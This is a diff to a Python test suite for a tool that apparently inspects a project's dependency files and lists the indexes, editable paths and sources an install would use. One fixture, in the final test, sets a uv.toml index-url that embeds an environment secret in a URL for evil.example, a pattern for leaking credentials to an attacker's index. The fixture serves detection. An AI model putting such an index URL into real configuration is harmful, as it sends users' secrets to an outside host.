@@ -64,6 +64,17 @@ def pyproject(more: str = "", dependencies: str = '"requests>=2"') -> str:
          f"wheels = [{{ url = '{PYPI}.whl' }}]\n"
          "[[packages]]\nname = 'it'\ndirectory = { path = '.', editable = true }\n"},
         {"pyproject.toml": "[project", "requirements.txt": "requests"},
+        {"requirements.txt": "-e .\n-e lib[x] ; python_version > '3'\n./lib\n--editable=./lib\n",
+         "lib/pyproject.toml": pyproject()},
+        {"pyproject.toml": pyproject(
+            '[tool.uv.sources]\nlib = { path = "packages/lib", editable = true }\n'
+            'Two = { workspace = true }\n[tool.uv.workspace]\nmembers = ["packages/*"]\n'
+        ), "packages/lib/pyproject.toml": pyproject(), "packages/b/pyproject.toml":
+         pyproject().replace('"it"', '"two"')},
+        {"pyproject.toml": pyproject(), "uv.lock": "version = 1\n[[package]]\nname = 'lib'\n"
+         "source = { editable = 'lib' }\n", "lib/pyproject.toml": pyproject()},
+        {"pylock.toml": "[[packages]]\nname = 'a'\ndirectory = { path = 'lib' }\n",
+         "lib/setup.py": ""},
     ],
 )  # fmt: skip
 def test_what_is_no_choice(tmp_path: Path, files: dict[str, str]) -> None:
@@ -85,7 +96,8 @@ def test_what_is_no_choice(tmp_path: Path, files: dict[str, str]) -> None:
         ("-f ./wheels", "use the option -f ./wheels"),
         ("--find-links=https://x", "use the option --find-links=https://x"),
         ("--trusted-host x", "use the option --trusted-host x"),
-        ("-e .", "use the option -e ."),
+        ("-e ..", "use the option -e .."),
+        ("-e ./out", "use the option -e ./out"),
         ("--unheard-of", "use the option --unheard-of"),
         ("-r https://x/y.txt", "read requirements from https://x/y.txt"),
         ("./a", "take a package by the address or path ./a"),
@@ -99,6 +111,8 @@ def test_what_is_no_choice(tmp_path: Path, files: dict[str, str]) -> None:
     ],
 )  # fmt: skip
 def test_lines_of_a_requirements_file(tmp_path: Path, line: str, phrase: str) -> None:
+    (tmp_path / "clone").mkdir()
+    (tmp_path / "clone/out").symlink_to("/usr")
     assert chosen(tmp_path, {"requirements.txt": f"requests\n{line}\n"}) == {phrase}
     more = {"requirements.txt": "-r sub/more.txt\n", "sub/more.txt": f"{line}\n"}
     assert phrase in chosen(tmp_path, more)
@@ -165,7 +179,7 @@ def test_what_source_trees_ask_for(tmp_path: Path) -> None:
         "take x from https://x/${TOKEN}", "take a package by the address or path y @ https://x/y.whl",
         "put the variable TOKEN of your environment into addresses",
     }  # fmt: skip
-    assert found == {"take a from a", "take b from ../b"} | more
+    assert found == more
     found = chosen(
         tmp_path, {"pyproject.toml": pyproject('[tool.uv.workspace]\nmembers = ["[b]"]\n')}
     )
@@ -340,3 +354,26 @@ def test_names_of_indexes() -> None:
 )
 def test_whether_an_address_is_the_users(url: str, does: bool) -> None:  # noqa: FBT001 - of a table
     assert belongs(url, MINE) is does
+
+
+def test_what_directories_of_its_own_want_counts(tmp_path: Path) -> None:
+    """uv follows them, and those that they name, when it resolves."""
+    source = "[tool.uv.sources]\n{} = {{ {} }}\n"
+    files = {
+        "requirements.txt": "-e ./lib\n",
+        "lib/pyproject.toml": pyproject(source.format("two", 'path = "../two"'), '"x @ https://x"'),
+        "two/pyproject.toml": pyproject(source.format("g", 'git = "https://g"')),
+        "two/uv.toml": 'index-url = "https://${SECRET}@evil.example"\n',
+    }
+    assert chosen(tmp_path, files) == {
+        "take a package by the address or path x @ https://x",
+        "take g from https://g",
+        "use the index https://evil.example",
+    }
+    (tmp_path / "clone/requirements.txt").unlink()
+    (tmp_path / "beside").mkdir()
+    files = {"pyproject.toml": pyproject(source.format("b", 'path = "../beside"'))}
+    assert chosen(tmp_path, files) == {"take b from ../beside"}
+    files = {"pyproject.toml": pyproject(source.format("two", 'path = "two"'))}
+    (tmp_path / "clone/two").chmod(0o777)
+    assert "take two from two" in chosen(tmp_path, files)
